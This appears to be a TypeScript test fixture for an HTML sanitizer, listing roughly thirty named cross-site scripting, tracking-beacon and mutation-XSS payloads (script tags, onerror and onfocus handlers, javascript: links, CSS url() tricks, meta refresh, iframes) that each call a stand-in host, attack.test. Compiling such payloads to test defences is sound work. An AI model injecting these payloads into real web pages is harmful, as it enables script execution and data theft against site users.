const target = 'http://attack.test/fired'
const call = `fetch('${target}')`

/** `click` needs somebody to press what it shows. */
export type Attack = { readonly name: string; readonly html: string; readonly click?: true }

/** Harmful HTML: shown as it is, each of these asks for the target. */
export const attacks: readonly Attack[] = [
  { name: 'a script', html: `<script>${call}</script>` },
  { name: 'an image that cannot load', html: `<img src=x onerror="${call}">` },
  { name: 'a handler without quotes', html: `<img src=x onerror=${call}>` },
  { name: 'a drawing that loads', html: `<svg onload="${call}"></svg>` },
  { name: 'a script in a drawing', html: `<svg><script>${call}</script></svg>` },
  { name: 'a video that cannot load', html: `<video><source onerror="${call}"></video>` },
  { name: 'an open box', html: `<details open ontoggle="${call}">x</details>` },
  { name: 'a field that takes the focus', html: `<input autofocus onfocus="${call}">` },
  { name: 'a script as a link', html: `<a href="javascript:${call}">go</a>`, click: true },
  { name: 'a hidden script as a link', html: `<a href="java&#9;script:${call}">go</a>`, click: true },
  { name: 'a link in a drawing', html: `<svg><a xlink:href="javascript:${call}"><text y="20">go</text></a></svg>`, click: true },
  { name: 'an image as a spy', html: `<img src="${target}">` },
  { name: 'several images as spies', html: `<img srcset="${target} 1x">` },
  { name: 'a poster as a spy', html: `<video poster="${target}"></video>` },
  { name: 'a background as a spy', html: `<table background="${target}"><tr><td>x</td></tr></table>` },
  { name: 'a style with an address', html: `<div style="background-image:url(${target})">x</div>` },
  { name: 'a style with a hidden address', html: String.raw`<div style="background:u\72l(${target})">x</div>` },
  { name: 'a style sheet', html: `<style>body{background:url(${target})}</style>` },
  { name: 'a linked style sheet', html: `<link rel="stylesheet" href="${target}">` },
  { name: 'a form', html: `<form action="${target}"><button>go</button></form>`, click: true },
  { name: 'a redirection', html: `<meta http-equiv="refresh" content="0;url=${target}">` },
  { name: 'another base', html: `<base href="${target}/"><img src="x">` },
  { name: 'a frame', html: `<iframe src="${target}"></iframe>` },
  { name: 'a frame with a script in it', html: `<iframe srcdoc="<script>${call}</script>"></iframe>` },
  { name: 'an object', html: `<object data="${target}"></object>` },
  { name: 'an embedded thing', html: `<embed src="${target}">` },
  { name: 'a text that ends its element', html: `<noscript><p title="</noscript><img src=x onerror=${call}>">` },
  { name: 'a style that ends in a drawing', html: `<svg></p><style><a id="</style><img src=x onerror=${call}>">` },
  {
    name: 'a formula that changes when read again',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  },
]
